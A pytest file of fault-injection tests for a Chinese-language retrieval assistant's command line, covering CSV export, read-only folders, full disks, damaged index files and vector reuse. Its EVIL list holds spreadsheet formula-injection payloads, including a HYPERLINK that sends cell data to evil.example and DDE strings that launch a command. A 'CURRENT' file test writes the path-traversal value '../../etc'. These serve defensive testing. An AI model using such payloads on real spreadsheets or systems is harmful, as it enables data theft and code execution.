"""Fault injection (issue 17): CSV formulas, file-system failures, a damaged index, status, reuse.

Each fault is made to happen at the point where it would hurt (a permission
refused on the index folder, a full disk while the vectors or the corpus
document are written, CURRENT failing to switch after the corpus changed),
through the command line as a user runs it (``assistant.cli.main``).  The
tests run as root here, where ``chmod`` stops nothing, so the failures are
raised by patching the call that fails; ``test_real_permissions`` also runs
the command as an unprivileged user (or with ``chmod`` when not root).
"""

from __future__ import annotations

import csv
import errno
import json
import os
import shutil
import subprocess
import sys
import tempfile
from pathlib import Path

import pytest

from assistant.cli import main
from assistant.config import get_settings
from assistant.fsutil import FORMULA_START
from assistant.indexing import build_index
from assistant.stores.files import current_dir

from conftest import CORPUS_FILE, FakeEmbedder
from test_ingest import make_docx, snapshot
from ui_server import copy_data, free_port


@pytest.fixture
def fake(monkeypatch) -> FakeEmbedder:
    """The deterministic embedder wherever the commands would load the real model."""
    emb = FakeEmbedder()
    for where in ("assistant.indexing", "assistant.embedding", "assistant.retrieval"):
        monkeypatch.setattr(f"{where}.get_embedder", lambda *a, **k: emb)
    return emb


@pytest.fixture
def small(tmp_path):
    text = CORPUS_FILE.read_text("utf-8").splitlines()
    start = next(i for i, line in enumerate(text) if line.startswith("党建引领圆梦换梯"))
    end = next(i for i in range(start, len(text)) if "指导老师" in text[i])
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "base.txt").write_text("\n".join(text[start : end + 1]), encoding="utf-8")
    return get_settings(corpus_dir=corpus, index_dir=tmp_path / "index")


def dirs(settings) -> list[str]:
    return ["--corpus-dir", str(settings.corpus_dir), "--index-dir", str(settings.index_dir)]


def run(capsys, *args) -> tuple[int, str, str]:
    code = main([str(a) for a in args])
    out, err = capsys.readouterr()
    return code, out, err


def one_line(err: str) -> str:
    """The message, which must be one line (the progress bar of an update that got that far aside)."""
    lines = [line for line in err.strip().splitlines() if line.strip() and not line.startswith(("需要向量化", "向量化段落"))]
    assert len(lines) == 1 and "Traceback" not in err, err
    return lines[0]


# ---------------------------------------------------------------------------
# CSV export: no formula reaches a spreadsheet


EVIL = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def test_feedback_export_neutralises_every_formula(tmp_path, capsys):
    from assistant.feedback import FeedbackStore

    db = tmp_path / "feedback.db"
    store = FeedbackStore(db)
    for text in EVIL:
        store.record(text, text, [{"n": 1}], "extractive", "👎", text, model=text, session=text, username=text)
    out = tmp_path / "feedback.csv"
    code, stdout, _ = run(capsys, "feedback", "export", "--out", out, "--db", db)
    assert code == 0 and f"已导出 {len(EVIL)} 条" in stdout
    with open(out, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    header, body = rows[0], rows[1:]
    assert len(body) == len(EVIL)
    cells = [cell for row in body for cell in row]
    assert not [c for c in cells if c.startswith(FORMULA_START)]
    comments = [row[header.index("comment")] for row in body]
    assert comments == ["'" + text.strip() for text in EVIL]  # kept behind the quote (comments are stripped)
    assert [row[header.index("username")] for row in body] == ["'" + text for text in EVIL]
    assert body[0][header.index("id")] == "1"  # numbers are left alone


# ---------------------------------------------------------------------------
# file-system failures: one Chinese line naming the path and the fix, exit 5, nothing half-done


def refuse_writes_in(monkeypatch, folder: Path, error: int = errno.EACCES) -> None:
    """Make every new file in ``folder`` fail as a read-only folder (or a full disk) would."""
    real = tempfile.mkstemp

    def mkstemp(*a, dir=None, **kw):
        if dir is not None and Path(dir) == folder:
            raise OSError(error, os.strerror(error), str(Path(dir) / "x.tmp"))
        return real(*a, dir=dir, **kw)

    monkeypatch.setattr("tempfile.mkstemp", mkstemp)


def test_index_build_into_a_folder_it_cannot_write(small, fake, capsys, monkeypatch):
    build_index(small, fake)
    before = snapshot(small)
    refuse_writes_in(monkeypatch, small.index_dir)
    code, out, err = run(capsys, "index", "build", *dirs(small))
    line = one_line(err)
    assert code == 5 and f"没有权限写入 {small.index_dir}" in line and "chown" in line and "--index-dir" in line
    assert snapshot(small) == before and out == ""


def test_disk_full_while_the_vectors_are_written(small, fake, capsys, monkeypatch):
    build_index(small, fake)
    before = snapshot(small)

    def full(index, path):
        Path(path).write_bytes(b"\0" * 100)  # half a file, as a full disk leaves it
        raise OSError(errno.ENOSPC, "No space left on device", path)

    monkeypatch.setattr("assistant.stores.files.faiss.write_index", full)
    code, _, err = run(capsys, "index", "build", *dirs(small))
    line = one_line(err)
    assert code == 5 and "磁盘空间不足" in line and "vectors.faiss" in line and "df -h" in line
    assert snapshot(small) == before and not list(small.index_dir.glob(".tmp-*"))


def test_add_with_a_read_only_corpus_changes_nothing(small, fake, capsys, monkeypatch, tmp_path):
    build_index(small, fake)
    embedded = fake.embedded
    before = snapshot(small)
    refuse_writes_in(monkeypatch, small.corpus_dir, errno.EROFS)
    code, _, err = run(capsys, "add", make_docx(tmp_path / "new.docx"), *dirs(small))
    line = one_line(err)
    assert code == 5 and str(small.corpus_dir) in line and "只读" in line and "--corpus-dir" in line
    assert snapshot(small) == before and fake.embedded == embedded  # the first build only


def test_add_when_the_document_cannot_be_written_at_publication(small, fake, capsys, monkeypatch, tmp_path):
    build_index(small, fake)
    before = snapshot(small)
    versions = sorted(p.name for p in small.index_dir.glob("v-*"))

    def full(path, data, **kw):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    monkeypatch.setattr("assistant.corpus.atomic_write", full)
    code, _, err = run(capsys, "add", make_docx(tmp_path / "new.docx"), *dirs(small))
    line = one_line(err)
    assert code == 5 and "磁盘空间不足" in line and str(small.corpus_dir) in line
    assert snapshot(small) == before  # the finished version folder was removed again
    assert sorted(p.name for p in small.index_dir.glob("v-*")) == versions


def test_add_when_current_cannot_switch_puts_the_corpus_back(small, fake, capsys, monkeypatch, tmp_path):
    import assistant.stores.files as files

    build_index(small, fake)
    before = snapshot(small)
    real = files.atomic_write

    def refuse_current(path, data, **kw):
        if Path(path).name == "CURRENT":
            raise OSError(errno.EIO, "Input/output error", str(path))
        return real(path, data, **kw)

    monkeypatch.setattr(files, "atomic_write", refuse_current)
    code, _, err = run(capsys, "add", make_docx(tmp_path / "new.docx"), *dirs(small))
    line = one_line(err)
    assert code == 5 and "CURRENT" in line
    assert snapshot(small) == before  # the document written just before was taken out again


def test_remove_with_a_read_only_corpus_and_a_failed_switch(small, fake, capsys, monkeypatch, tmp_path):
    import assistant.stores.files as files

    build_index(small, fake)
    run(capsys, "add", make_docx(tmp_path / "new.docx"), *dirs(small))
    added = next(p for p in small.corpus_dir.iterdir() if p.name != "base.txt")
    case_id = next(c.id for c in __import__("assistant.corpus").corpus.load_corpus(small.corpus_dir) if c.source == added.name)
    before = snapshot(small)
    with monkeypatch.context() as m:
        refuse_writes_in(m, small.corpus_dir)
        code, _, err = run(capsys, "remove", case_id, *dirs(small))
    assert code == 5 and "没有权限写入" in one_line(err) and snapshot(small) == before
    real = files.atomic_write
    monkeypatch.setattr(files, "atomic_write", lambda p, d, **kw: (_ for _ in ()).throw(
        OSError(errno.ENOSPC, "No space left on device", str(p))) if Path(p).name == "CURRENT" else real(p, d, **kw))
    code, _, err = run(capsys, "remove", case_id, *dirs(small))
    assert code == 5 and "磁盘空间不足" in one_line(err)
    assert snapshot(small) == before  # the deleted document is back, byte for byte


def test_feedback_export_on_a_full_disk_leaves_no_file(tmp_path, capsys, monkeypatch):
    from assistant.feedback import FeedbackStore

    db = tmp_path / "feedback.db"
    FeedbackStore(db).record("问", "答", [], "extractive", "👍")
    out_dir = tmp_path / "out"
    out_dir.mkdir()
    real = os.replace

    def full(src, dst):
        raise OSError(errno.ENOSPC, "No space left on device", str(dst))

    monkeypatch.setattr("assistant.fsutil.os.replace", full)
    code, _, err = run(capsys, "feedback", "export", "--out", out_dir / "f.csv", "--db", db)
    monkeypatch.setattr("assistant.fsutil.os.replace", real)
    line = one_line(err)
    assert code == 5 and "磁盘空间不足" in line and "f.csv" in line and "--out" in line
    assert list(out_dir.iterdir()) == []


def _as_nobody() -> list[str]:
    return ["setpriv", "--reuid=65534", "--regid=65534", "--clear-groups"] if os.geteuid() == 0 else []


@pytest.mark.skipif(os.geteuid() == 0 and not shutil.which("setpriv"), reason="needs setpriv to drop root")
def test_real_permissions(tmp_path_factory):
    """No patching: the folders really refuse the writes (as an unprivileged user, since root ignores chmod)."""
    root = Path(tempfile.mkdtemp(prefix="perm-"))
    try:
        os.chmod(root, 0o755)
        corpus, index = copy_data(root)
        for p in [corpus, index, *corpus.rglob("*"), *index.rglob("*")]:
            os.chmod(p, 0o755 if p.is_dir() else 0o644)
        if os.geteuid() != 0:
            os.chmod(index, 0o555)
            os.chmod(corpus, 0o555)
        before = {p: p.read_bytes() for p in root.rglob("*") if p.is_file()}
        doc = root / "new.txt"
        doc.write_text("---\ntitle: 楼道堆物整治\nauthor: 李梅\n---\n" + "楼道里堆满了纸箱和旧家具，我们组织志愿者清理。" * 10, encoding="utf-8")
        os.chmod(doc, 0o644)
        env = dict(os.environ, HF_HUB_OFFLINE="1", HOME=str(root), XDG_DATA_HOME=str(root / "data"))
        for args, folder in ((["index", "build"], index), (["add", str(doc)], corpus)):
            r = subprocess.run([*_as_nobody(), sys.executable, "-m", "assistant.cli", *args,
                                "--corpus-dir", str(corpus), "--index-dir", str(index)],
                               capture_output=True, text=True, env=env, cwd=root, timeout=300)
            assert r.returncode == 5, r.stderr
            line = one_line(r.stderr)
            assert f"没有权限写入 {folder}" in line and "chown" in line
        assert {p: p.read_bytes() for p in root.rglob("*") if p.is_file() and p != doc} == {
            p: b for p, b in before.items() if p != doc
        }
    finally:
        for p in root.rglob("*"):
            if p.is_dir():
                os.chmod(p, 0o755)
        shutil.rmtree(root, ignore_errors=True)


# ---------------------------------------------------------------------------
# a damaged index: exit 3 with the repair command, in every command that loads it


DAMAGE = {
    "current-not-utf8": lambda index: (index / "CURRENT").write_bytes(b"\xff\xfe\x00v-\x81\n"),
    "current-outside": lambda index: (index / "CURRENT").write_text("../../etc\n"),
    "current-empty": lambda index: (index / "CURRENT").write_text(""),
    "file-sizes-a-list": lambda index: _edit_manifest(index, file_sizes=[]),
    "count-a-string": lambda index: _edit_manifest(index, n_passages="653"),
    "manifest-a-list": lambda index: (current_dir(index) / "manifest.json").write_text("[1, 2]"),
}


def _edit_manifest(index: Path, **fields) -> None:
    path = current_dir(index) / "manifest.json"
    data = json.loads(path.read_text("utf-8"))
    data.update(fields)
    path.write_text(json.dumps(data), "utf-8")


@pytest.mark.parametrize("damage", sorted(DAMAGE))
def test_damaged_index_is_exit_3_with_the_repair_command(tmp_path, capsys, damage):
    corpus, index = copy_data(tmp_path)
    DAMAGE[damage](index)
    before = {p: p.read_bytes() for p in index.rglob("*") if p.is_file()}
    d = ["--corpus-dir", corpus, "--index-dir", index]
    for args in (["search", "停车难", *d], ["ask", "停车难", *d], ["index", "status", *d],
                 ["serve", "--port", free_port(), *d]):
        code, _, err = run(capsys, *args)
        last = err.strip().splitlines()[-1]
        assert code == 3 and "Traceback" not in err, (args[0], err)
        assert "assistant index build" in last and ("CURRENT" in last or "清单" in last), last
        assert "已启动" not in err
    assert {p: p.read_bytes() for p in index.rglob("*") if p.is_file()} == before


def test_a_running_reader_keeps_the_last_good_version_and_logs_why(small, fake, caplog):
    import logging

    from assistant.feedback import FeedbackStore
    from assistant.retrieval import get_searcher
    from assistant.ui import handlers as H

    build_index(small, fake)
    backend = H.Backend(small, FeedbackStore(small.index_dir.parent / "f.db"))  # the process-wide caches, as in serve
    searcher = get_searcher(small)
    good = searcher.index.version
    (small.index_dir / "CURRENT").write_bytes(b"\xff\xfe")
    with caplog.at_level(logging.WARNING, logger="assistant.retrieval"):
        assert get_searcher(small) is searcher and get_searcher(small) is searcher
        *_, last = H.ask(backend, "加装电梯的资金从哪里来？", [], None, [])
    assert last.answer is not None and H.GENERIC_ERROR not in (last.notice_html or "")  # still answering
    notes = [r.getMessage() for r in caplog.records if "keeping index version" in r.getMessage()]
    assert len(notes) == 1 and good in notes[0] and "CURRENT" in notes[0] and "UTF-8" in notes[0]  # once per cause
    # a new version whose manifest is damaged: not switched to either
    caplog.clear()
    build_index(small, fake)
    fresh = get_searcher(small)
    assert fresh is not searcher and fresh.index.version != good
    build_index(small, fake)
    _edit_manifest(small.index_dir, file_sizes=[])
    with caplog.at_level(logging.WARNING, logger="assistant.retrieval"):
        assert get_searcher(small) is fresh and get_searcher(small) is fresh
    notes = [r.getMessage() for r in caplog.records if "keeping index version" in r.getMessage()]
    assert len(notes) == 1 and "file_sizes" in notes[0] and current_dir(small.index_dir).name in notes[0]
    # repaired by a build: the reader moves on
    build_index(small, fake)
    assert get_searcher(small) is not fresh


# ---------------------------------------------------------------------------
# index status checks the files against the manifest


def test_status_checks_sizes_and_checksums(small, fake, capsys):
    build_index(small, fake)
    version = current_dir(small.index_dir)
    manifest = json.loads((version / "manifest.json").read_text("utf-8"))
    assert {"cases.json", "passages.json", "vectors.faiss"} <= set(manifest["file_sizes"])
    assert any(name.startswith("lexical/") for name in manifest["file_sizes"])  # every file is listed
    assert set(manifest["file_sha256"]) == set(manifest["file_sizes"])  # all small at this size
    code, out, _ = run(capsys, "index", "status", *dirs(small))
    assert code == 0 and "大小与校验和与建索引时一致" in out and "与语料和配置一致" in out

    passages = version / "passages.json"
    good = passages.read_bytes()
    passages.write_bytes(good.replace("电梯".encode(), "楼梯".encode(), 1))  # same size, other content
    code, out, _ = run(capsys, "index", "status", *dirs(small))
    assert code == 3 and "passages.json 内容与建索引时不同（校验和不符）" in out and "assistant index build" in out
    passages.write_bytes(good)

    vectors = version / "vectors.faiss"
    vectors.write_bytes(vectors.read_bytes()[:500])
    code, out, _ = run(capsys, "index", "status", *dirs(small), "--json")
    assert code == 3 and any("vectors.faiss 大小不符" in d for d in json.loads(out)["damage"])
    for f in (version / "lexical").iterdir():
        f.unlink()
        break
    code, out, _ = run(capsys, "index", "status", *dirs(small))
    assert code == 3 and "缺失" in out and "损坏：" in out


# ---------------------------------------------------------------------------
# index build reuses the vectors of the newest intact version


@pytest.mark.parametrize("damage", ["current-deleted", "current-not-utf8", "live-vectors-truncated"])
def test_build_after_damage_reuses_the_newest_intact_version(small, fake, capsys, damage):
    n = build_index(small, fake).n_passages
    build_index(small, fake)  # two versions on disk: the live one and the previous one
    live, previous = current_dir(small.index_dir), sorted(small.index_dir.glob("v-*"))[0]
    if damage == "current-deleted":
        (small.index_dir / "CURRENT").unlink()
    elif damage == "current-not-utf8":
        (small.index_dir / "CURRENT").write_bytes(b"\xff\xfe\x00")
    else:
        (live / "vectors.faiss").write_bytes((live / "vectors.faiss").read_bytes()[:700])
    embedded = fake.embedded
    code, out, err = run(capsys, "index", "build", *dirs(small))
    assert code == 0 and f"（新向量化 0，复用 {n}）" in out, err
    assert fake.embedded == embedded  # not one passage embedded again
    source = previous if damage == "live-vectors-truncated" else live
    assert f"复用的向量来自完好的版本 {source.name}" in out
    code, out, _ = run(capsys, "index", "status", *dirs(small))
    assert code == 0


def test_build_with_no_intact_version_embeds_everything(small, fake):
    build_index(small, fake)
    live = current_dir(small.index_dir)
    (live / "passages.json").write_text("[]")
    report = build_index(small, fake)
    assert report.embedded == report.n_passages and report.reused_from is None
